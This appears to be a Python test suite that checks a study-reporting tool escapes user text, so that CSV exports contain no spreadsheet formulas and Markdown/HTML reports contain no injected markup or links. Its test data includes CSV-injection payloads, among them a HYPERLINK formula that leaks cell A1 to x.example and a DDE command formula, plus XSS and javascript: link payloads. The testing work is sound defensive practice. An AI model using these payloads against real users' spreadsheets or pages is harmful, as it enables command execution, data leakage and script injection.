"""Words of a study file stay words: in spreadsheets no formula, in pages and notes no markup, HTML or link."""

from __future__ import annotations

import csv
import functools
import io
import re
from html.parser import HTMLParser
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ssc_tune.presentation.csvs import plain, results_csv, summary_csv, verdicts_csv
from ssc_tune.presentation.markdown import code, escaped, fence, table
from ssc_tune.report import render
from ssc_tune.report.context import context
from ssc_tune.report.figures import Given
from ssc_tune.study.model.study import Study
from ssc_tune.tracking import notes
from ssc_tune.tracking.grouping import Group
from ssc_tune.tracking.notes import Link
from tests.making.analyses import Case, case
from tests.making.studies import REPORTED, study

NASTY = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3|x",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '<img src=x onerror="alert(1)">',
    "</script><script>alert(1)</script>",
    "<!-- x",
    "[open](javascript:alert(1))",
    "![](http://x.example/pixel.png)",
    "<http://x.example>",
    "a | b\n# c\n\n> d",
    "```\n<b>x</b>\n```",
    "`x` ``<i>`` ~~~",
    "&lt;b&gt; {{ 7 * 7 }} {% raw %}",
    "\\`<b>x</b>`",
)
FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def kinds(text: str) -> set[str]:
    """The kinds of all parts of a page."""
    tokens = MARKDOWN.parse(text)
    return {t.type for t in [*tokens, *(inner for token in tokens for inner in token.children or ())]}


DANGEROUS = {"html_block", "html_inline", "link_open", "image"}


def words(text: str) -> str:
    """What a reader sees of one paragraph."""
    (inline,) = [token for token in MARKDOWN.parse(text) if token.type == "inline"]
    return "".join(child.content for child in inline.children or ())


@given(st.text(st.characters(exclude_categories=["C"])) | st.sampled_from(NASTY))
def test_text_means_itself_in_markdown(text: str) -> None:
    line = f"x {escaped(text)}"
    assert not kinds(line) & DANGEROUS
    assert words(line) == " ".join(["x", *text.split()])
    assert kinds(table(["a"], [[text]])) == kinds(table(["a"], [["b"]]))


@given(st.text(st.sampled_from("`|<>\\ a"), max_size=12))
def test_literal_text_keeps_its_backticks(text: str) -> None:
    assert kinds(f"x {code(text)}") - {"code_inline"} <= kinds("x a")
    assert kinds(fence(text)) == {"fence"}


@pytest.mark.parametrize("text", NASTY)
def test_a_cell_is_no_formula(text: str) -> None:
    assert not FORMULA.match(str(plain(text)))
    assert str(plain(text)).removeprefix("'") == text


@given(st.one_of(st.floats(), st.integers()))
def test_a_number_stays_a_number_also_as_text(number: float) -> None:
    assert plain(number) is number
    assert plain(str(number)) == str(number)
    assert plain(repr(number)) == repr(number)


@given(st.text())
def test_any_text_is_a_number_or_begins_harmlessly(text: str) -> None:
    shown = str(plain(text))
    assert not FORMULA.match(shown) or float(shown) is not None


def hostile(text: str) -> Case:
    """A study whose every free word is this one, what its methods warned about and raised included."""
    claims = [{**claim, "name": f"{text}{i}"} for i, claim in enumerate(REPORTED["claims"])]
    made = case(study(REPORTED, description=text, claims=claims), num_failed=1, traceback=text, history=1)
    verdicts = tuple(
        v.model_copy(update={"reason": text, "warnings": (text,), "sensitivity": (text,), "known": text})
        for v in made.analysis.verdicts
    )
    return made._replace(analysis=made.analysis.model_copy(update={"verdicts": verdicts, "warnings": (text,)}))


BENIGN = functools.cache(lambda: hostile("benign"))


@pytest.fixture(scope="module", params=[NASTY[0], "\t=1+1", "\n\n".join(NASTY), " ".join(reversed(NASTY))])
def made(request: pytest.FixtureRequest) -> Case:
    return hostile(request.param)


def test_no_table_has_a_formula(made: Case) -> None:
    odd = made.tables.cells.assign(prototypes=made.study.description, **{made.study.description: "x"})
    texts = [
        results_csv(made.study, made.tables._replace(cells=odd)),
        summary_csv(made.analysis),
        verdicts_csv(made.analysis),
    ]
    for text in texts:
        rows = list(csv.reader(io.StringIO(text)))
        assert len({len(row) for row in rows}) == 1
        for value in (value for row in rows for value in row if FORMULA.match(value)):
            float(value)  # a negative number
    again = pd.read_csv(io.StringIO(texts[0]))
    assert again["test_accuracy"].dtype == float


def pages_of(made: Case) -> dict[str, str]:
    """Every page in Markdown that is written of a study."""
    command = f"python -m ssc_tune.run '{made.study.description}'"
    content: dict[str, Any] = context(Given(*made), command=command, hints=(command,))
    of: Study = made.study
    summary = made.analysis.summaries[0]
    group = Group(summary.method, summary.block, summary.setting)
    return {
        "report": render.markdown(content, []),
        "published": render.published(content, [], command),
        "experiment": notes.experiment_note(of, "v", made.analysis, links=[Link("charts", "#/charts")]),
        "study": notes.study_note(of, "v", made.analysis),
        "unjudged": notes.study_note(of, "v", None),
        "group": notes.group_note(of, group, summary),
    }


def test_no_page_in_markdown_has_markup_of_a_study_file(made: Case) -> None:
    expected = pages_of(BENIGN())
    for name, text in pages_of(made).items():
        assert kinds(text) - kinds(expected[name]) <= {"text_special", "entity", "softbreak"}, name
        links = [t.attrs.get("href") for token in MARKDOWN.parse(text) for t in token.children or () if t.attrs]
        assert set(links) <= {"#/charts", "results.csv", "verdicts.csv"}, name


class Elements(HTMLParser):
    """The elements of a page with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))


def test_the_report_has_the_same_elements_whatever_the_words_are(made: Case) -> None:
    def elements(of: Case) -> list[tuple[str, tuple[str, ...]]]:
        content = context(Given(*of), command="c")
        parser = Elements()
        parser.feed(render.html(of.study, content, [], {}))
        return parser.found

    assert elements(made) == elements(BENIGN())
